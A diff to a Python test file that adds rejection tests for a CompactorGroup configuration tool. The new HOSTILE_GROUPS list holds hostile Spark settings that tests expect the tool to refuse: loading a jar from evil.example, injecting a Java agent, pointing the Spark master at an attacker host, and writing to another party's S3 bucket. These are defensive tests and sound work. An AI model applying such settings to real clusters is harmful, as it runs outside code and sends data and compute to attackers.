@@ -65,11 +65,41 @@ def world(redis_url: str, tmp_path: Path):
     r.close()
 
 
+def group_file(tmp: Path, name: str, spec: dict) -> str:
+    """A YAML file holding one CompactorGroup, for `kompaktor service apply`."""
+    import yaml
+
+    path = tmp / "groups" / f"{name}.yaml"
+    path.parent.mkdir(exist_ok=True)
+    path.write_text(yaml.safe_dump({"apiVersion": "kompaktor.io/v1alpha1", "kind": "CompactorGroup",
+                                    "metadata": {"name": name}, "spec": spec}))
+    return str(path)
+
+
+#: issue 25 §1 and §3: what a group may not choose, refused by `kompaktor service apply` as by the
+#: operator (same rule, same words), and nothing stored
+HOSTILE_GROUPS = [
+    ("jars", {"spark": {"conf": {"spark.jars": "http://evil.example/x.jar"}}},
+     "error: CompactorGroup jars: spec.spark.conf key 'spark.jars' is not allowed"),
+    ("javaopts", {"spark": {"conf": {"spark.driver.extraJavaOptions": "-javaagent:/tmp/a.jar"}}},
+     "error: CompactorGroup javaopts: spec.spark.conf key 'spark.driver.extraJavaOptions' is not allowed"),
+    ("master", {"spark": {"master": "spark://evil.example:7077"}},
+     "error: CompactorGroup master: spec.spark.master 'spark://evil.example:7077' is not allowed"),
+    ("storage", {"storage": {"uri": "s3://someone-elses-bucket/x"}},
+     "error: CompactorGroup storage: spec.storage.uri 's3://someone-elses-bucket/x' is not allowed"),
+    ("many", {"maxReplicas": 100000}, "error: CompactorGroup many: spec.maxReplicas 100000 is more than 1000"),
+    ("labels", {"podLabels": {"app.kubernetes.io/component": "operator"}},
+     "error: CompactorGroup labels: spec.podLabels key 'app.kubernetes.io/component' is not allowed"),
+]
+
+
 def bad_inputs(tmp: Path, redis_port: int) -> list[tuple[list[str], str | None, int, str]]:
     """(arguments, storage URI or None for the table's, exit status, the error line's text)."""
     out = tmp / "out"
     afile = str(out / "afile")
     return [
+        *[(["service", "apply", group_file(tmp, name, spec)], None, 1, message)
+          for name, spec, message in HOSTILE_GROUPS],
         (["import", "t", str(tmp / "empty.parquet")], None, 1,
          f"error: {tmp / 'empty.parquet'}: the file has no entries; nothing to import"),
         (["compact", "t", "--start", "z", "--end", "a"], None, 1,
